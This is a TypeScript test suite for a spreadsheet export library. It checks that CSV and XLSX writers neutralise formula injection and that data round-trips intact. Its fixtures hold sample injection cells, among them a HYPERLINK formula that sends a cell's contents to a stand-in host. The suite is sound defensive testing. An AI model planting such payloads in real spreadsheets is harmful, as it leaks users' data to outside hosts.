import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../../../shared/domain/text/formula-guard.ts';
import { seededRandom } from '../encoding/testing/mutate.ts';
import { readTable } from './read-table.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const NASTY = [
  ['source', 'target', 'comment'],
  ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3'],
  ['@SUM(A1)', '\t=1', '\r=1'],
  ["'=1", "''=1", "'quoted'"],
  ['＝1', '\n=2', "'"],
  ['a "b", c; d\te', ' spaced ', 'two\r\nlines\nand\rmore'],
  ['_x0041_', 'ä 漢字 😀 \u2028', '-Xms512m'],
  ['007', '1e5', 'TRUE'],
  ['x;=1+1', 'a,@b', "end;'=2"],
  ['line\n=3', 'tab\t+4', 'quote;"=5"'],
];
const DELIMITERS = [',', ';', '\t'] as const;

async function readBack(bytes: Uint8Array): Promise<string[][]> {
  return (await readTable(bytes, { isOurs: () => true })).rows.map(({ cells }) => cells);
}

describe('formula guard', () => {
  it.each(['=1', '+1', '-1', '@a', '\ta', '\ra', '\na', '＝1', "'=1", "''@"])(
    'guards %j reversibly',
    (cell) => {
      expect(guardFormula(cell)).toBe(`'${cell}`);
      expect(unguardFormula(guardFormula(cell))).toBe(cell);
    },
  );

  it.each(['a=1', "'tis", "'", '', ' =1', '1-2'])('leaves %j unchanged', (cell) => {
    expect(guardFormula(cell)).toBe(cell);
    expect(unguardFormula(cell)).toBe(cell);
  });
});

describe('guarding the parts of a cell', () => {
  it.each([
    ['a;=1', "a;'=1"],
    ['a,-5', "a,'-5"],
    ['a\t@b', "a\t'@b"],
    ['a\n=1', "a\n'=1"],
    ['\t=1', "'\t'=1"],
    ['a;"=1"', 'a;\'"=1"'],
    ["'+','-'", "''+',''-'"],
  ])('guards %j as %j and restores it', (cell, guarded) => {
    expect(guardFormula(cell)).toBe(guarded);
    expect(unguardFormula(guarded)).toBe(cell);
  });
});

describe('writeCsv', () => {
  it('writes no cell that a spreadsheet reads as a formula', () => {
    const text = Buffer.from(
      writeCsv([
        ['=1+1', 'a'],
        ['-1', '\t=1'],
      ]),
    ).toString();
    expect(text).toBe("\uFEFF'=1+1,a\r\n'-1,'\t'=1\r\n");
  });

  it.each(DELIMITERS)('reads back cells written with delimiter %j', async (delimiter) => {
    expect(await readBack(writeCsv(NASTY, { delimiter }))).toEqual(NASTY);
  });

  it.each(DELIMITERS)('contains no formula when written with delimiter %j, at any split', (delimiter) => {
    const text = Buffer.from(writeCsv(NASTY, { delimiter })).toString();
    // A spreadsheet that expects another delimiter sees no quotation marks inside a cell.
    const parts = text.replace('\uFEFF', '').split(/[,;\t\r\n]/);
    expect(parts.filter((part) => /^"*[=+\-@＝＋－＠]/.test(part))).toEqual([]);
  });

  it('reads a table by other programs’ rules unless its headings are ours', async () => {
    const foreign = Buffer.from("source,target\r\n'-5,\"'+','-'\"\r\n");
    const cellsFor = async (isOurs?: () => boolean) =>
      (await readTable(foreign, isOurs && { isOurs })).rows[1]?.cells;
    expect(await cellsFor()).toEqual(["'-5", "'+','-'"]);
    expect(await cellsFor(() => false)).toEqual(["'-5", "'+','-'"]);
    expect(await cellsFor(() => true)).toEqual(['-5', "+',-'"]);
  });

  it('reads back any cells', async () => {
    const random = seededRandom(7);
    const pieces = ['"', ',', ';', '\t', '\n', '\r', "'", '=', '-', 'a', 'é', ' ', '|', '😀', '_x0009_'];
    const cell = () =>
      Array.from({ length: random() * 6 }, () => pieces[Math.floor(random() * pieces.length)]).join('');
    for (let round = 0; round < 100; round++) {
      const rows = Array.from({ length: 5 }, () => ['x', cell(), cell(), 'y']);
      const table = await readTable(writeCsv(rows), { delimiter: ',', isOurs: () => true });
      expect(table.rows.map(({ cells }) => cells)).toEqual(rows);
      expect(await readBack(writeXlsx(rows))).toEqual(rows);
    }
  });
});

describe('writeXlsx', () => {
  it('writes every cell as text that reads back the same', async () => {
    expect(await readBack(writeXlsx(NASTY))).toEqual(NASTY);
  });

  it('writes the same bytes for the same rows', () => {
    expect(writeXlsx(NASTY)).toEqual(writeXlsx(NASTY));
  });

  it('makes a valid sheet name', async () => {
    const { sheet } = await readTable(
      writeXlsx([['a']], { sheet_name: 'A/B: [C] & <D> and much more than is allowed' }),
    );
    expect(sheet).toBe('A B   C  & <D> and much more th');
  });

  it('puts cells beyond Z in their column', async () => {
    const row = Array.from({ length: 60 }, (_, index) => `c${index}`);
    expect(await readBack(writeXlsx([row]))).toEqual([row]);
  });

  it('rejects a cell that Excel would truncate', () => {
    expect(() => writeXlsx([['a'.repeat(40_000)]])).toThrow(
      'Row 1: Excel holds at most 32,767 characters in a cell.',
    );
  });
});
